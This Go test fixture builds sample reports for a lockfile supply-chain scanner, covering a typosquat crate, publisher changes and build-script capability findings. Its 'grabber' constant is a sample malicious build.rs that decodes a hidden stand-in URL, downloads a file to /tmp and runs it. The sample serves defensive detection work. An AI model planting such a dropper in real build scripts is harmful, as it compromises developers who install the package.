package html

import (
	"fmt"
	"strings"

	"github.com/lockkeeper/lockkeeper"
	"github.com/lockkeeper/lockkeeper/allowlist"
	"github.com/lockkeeper/lockkeeper/buildcode"
	"github.com/lockkeeper/lockkeeper/lockfile"
	"github.com/lockkeeper/lockkeeper/policy"
	"github.com/lockkeeper/lockkeeper/report"
	"github.com/lockkeeper/lockkeeper/scan"
)

func crate(name, version string) lockkeeper.Package {
	return lockkeeper.Package{Ecosystem: lockkeeper.Cargo, Name: name, Version: version}
}

func user(id, login string) lockkeeper.Principal {
	return lockkeeper.Principal{Kind: lockkeeper.User, ID: id, Login: login}
}

func outcome(state policy.State, level policy.Level, f policy.Finding) policy.Outcome {
	return policy.Outcome{Finding: f, Digest: f.Digest(), Level: level, State: state, Why: []string{string(f.Rule) + " asks for a sign-off by default"}}
}

// codeOf compares two versions of one file as scan does.
func codeOf(path, before, after string, capabilities ...buildcode.Capability) *policy.Code {
	surface := func(text string) *buildcode.Surface {
		if text == "" {
			return &buildcode.Surface{}
		}
		s := &buildcode.Surface{Kinds: []buildcode.Kind{buildcode.BuildScript}, Files: []buildcode.File{{Path: path, Digest: lockkeeper.Sum([]byte(text)), Text: text}}}
		s.Seal()
		return s
	}
	was, now := surface(before), surface(after)
	c := &policy.Code{Kinds: now.Kinds, Digest: now.Digest, Files: []string{path}, Capabilities: capabilities}
	c.Diff, c.Inserted, c.Deleted = buildcode.Diff(was, now, 64<<10)
	return c
}

const grabber = `// Fetches the tables that the crate needs.
use std::process::Command;

fn main() {
	let host = decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv");
	let body = ureq::get(&host).call().unwrap().into_string().unwrap();
	std::fs::write("/tmp/.t", body).unwrap();
	Command::new("/tmp/.t").spawn().unwrap(); // 1
}
`

const ringBefore = `fn main() {
	let mut build = cc::Build::new();
	build.file("crypto/a.c");
	build.compile("ring-core");
}
`

const ringAfter = `fn main() {
	let mut build = cc::Build::new();
	build.file("crypto/a.c");
	build.file("crypto/b.c");
	let perl = std::env::var("PERL").unwrap_or("perl".into());
	std::process::Command::new(perl).arg("asm.pl").status().unwrap();
	build.compile("ring-core-0.17");
}
`

// example is a report with an outcome of each state.
func example() *report.Report {
	grab := codeOf("build.rs", "", grabber, buildcode.Decode, buildcode.Network, buildcode.RunUnknown, buildcode.WriteFiles)
	grab.Gained = grab.Capabilities
	grab.Uses = []buildcode.Use{{Capability: buildcode.Decode, Path: "build.rs", Line: 5, Text: `decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv")`}, {Capability: buildcode.Network, Path: "build.rs", Line: 6, Text: "ureq::get(&host)"}, {Capability: buildcode.RunUnknown, Path: "build.rs", Line: 8, Text: `Command::new("/tmp/.t")`}}
	open := outcome(policy.Open, policy.SignOffLevel, policy.Finding{
		Rule: policy.BuildCodeAdded, Package: crate("proc-macro1", "1.0.107"), Lockfile: "Cargo.lock", Line: 412,
		Message: "is new here and runs a build script", Evidence: []string{"its name is one letter from proc-macro2, which is locked here"}, Artifact: lockkeeper.Sum([]byte("a")), Code: grab, Grave: true,
	})
	open.Missing, open.Refused = 1, []string{"the sign-off of author does not count: nobody signs off on their own pull request"}
	young := outcome(policy.Open, policy.SignOffLevel, policy.Finding{
		Rule: policy.EdgeToYoungPackage, Package: crate("arrayref", "0.3.10"), From: "0.3.9", Lockfile: "Cargo.lock", Line: 31, Message: "depends on proc-macro1 now, which is 5 hours old",
	})
	young.Missing = 1
	signed := outcome(policy.Signed, policy.SignOffLevel, policy.Finding{
		Rule: policy.PublisherChanged, Package: crate("memoffset", "0.9.2"), From: "0.9.1", Lockfile: "Cargo.lock", Line: 288,
		Message: "was published by user:9 (stranger); before by user:1 (keeper)", Evidence: []string{"0.9.2 by user:9 (stranger), 2026-03-04 10:00", "0.9.1 by user:1 (keeper), 2024-03-22 09:12"},
		Publisher: lockkeeper.Principal{Kind: lockkeeper.User, ID: "9", Login: "stranger"},
	})
	signed.SignedBy = []policy.Statement{{By: 7, Login: "reviewer", Reason: "asked them"}}
	signed.Why = append(signed.Why, "signed off by reviewer: asked them")
	ring := codeOf("build.rs", ringBefore, ringAfter, buildcode.Compile, buildcode.Run("perl"))
	ring.Gained = []buildcode.Capability{buildcode.Run("perl")}
	admitted := outcome(policy.Admitted, policy.SignOffLevel, policy.Finding{
		Rule: policy.CapabilityGained, Package: crate("ring", "0.17.9"), From: "0.17.8", Lockfile: "Cargo.lock", Line: 399,
		Message: "changed its build script, which can now do more: run:perl", Code: ring,
	})
	admitted.Entry = &allowlist.Entry{Package: "cargo/ring", Line: 4}
	r := &report.Report{
		Onboarded: true, Records: true, BaseBranch: "main",
		Pull: &report.Pull{Repository: "example/app", Number: 12, Title: "Update dependencies", Author: "author", AuthorID: 3, URL: "https://github.example.invalid/example/app/pull/12"},
		Scan: &scan.Result{
			Base: strings.Repeat("1f", 20), Head: strings.Repeat("9e", 20),
			Lockfiles: []scan.Lockfile{{Path: "Cargo.lock", Format: lockfile.Cargo, Version: "4", Added: 1, Updated: 5}},
			Changes: []scan.Change{
				{Lockfile: "Cargo.lock", Line: 412, Kind: lockfile.Added, Package: crate("proc-macro1", "1.0.107"), Published: scan.Published{By: user("391822", "lookalike"), Basis: scan.Stated, Compared: 1, Whole: true, Same: 1, Earlier: 1}, Through: []string{"image", "arrayref"}, Note: "build script: decode, network, run:?"},
				{Lockfile: "Cargo.lock", Line: 31, Kind: lockfile.Updated, Package: crate("arrayref", "0.3.10"), From: "0.3.9", Published: scan.Published{By: user("9", "stranger"), Basis: scan.Stated, Compared: 9, Whole: true, Before: user("1", "keeper"), Others: 9}, Through: []string{"image"}, Note: "no build code"},
				{Lockfile: "Cargo.lock", Line: 50, Kind: lockfile.Updated, Package: crate("cc", "1.2.2"), From: "1.2.1", Published: scan.Published{By: user("1", "keeper"), Basis: scan.Stated, Compared: 200, Whole: true, Same: 200, Earlier: 200}, Note: "build code unchanged"},
				{Lockfile: "Cargo.lock", Line: 60, Kind: lockfile.Updated, Package: crate("memchr", "2.7.1"), From: "2.7.0", Published: scan.Published{Unknown: "the registry does not tell"}, Note: "no build code"},
			},
		},
		Decision: policy.Decision{
			Conclusion: policy.ActionRequired, Reviewers: "alice, the team security or anybody with maintain permission",
			Outcomes: []policy.Outcome{open, young, signed, admitted, outcome(policy.Warned, policy.WarnLevel, policy.Finding{
				Rule: policy.ReleaseTooNew, Package: crate("syn", "3.0.1"), From: "3.0.0", Lockfile: "Cargo.lock", Line: 470, Message: "was published 2 days ago, less than 7 days",
			})},
			Notes: []string{"the allow entry at line 9 for cargo/cc expired on 2026-01-01: renew or remove it"},
		},
	}
	for i := range r.Scan.Changes {
		r.Scan.Changes[i].PURL = r.Scan.Changes[i].Package.String()
	}
	return r
}

// many is a report about n packages that wait.
func many(n int) *report.Report {
	r := example()
	first := r.Decision.Outcomes[0]
	r.Decision.Outcomes = nil
	for i := range n {
		o := first
		o.Finding.Package = crate(fmt.Sprintf("crate-%03d", i), "1.0.0")
		o.Digest = o.Finding.Digest()
		r.Decision.Outcomes = append(r.Decision.Outcomes, o)
	}
	return r
}
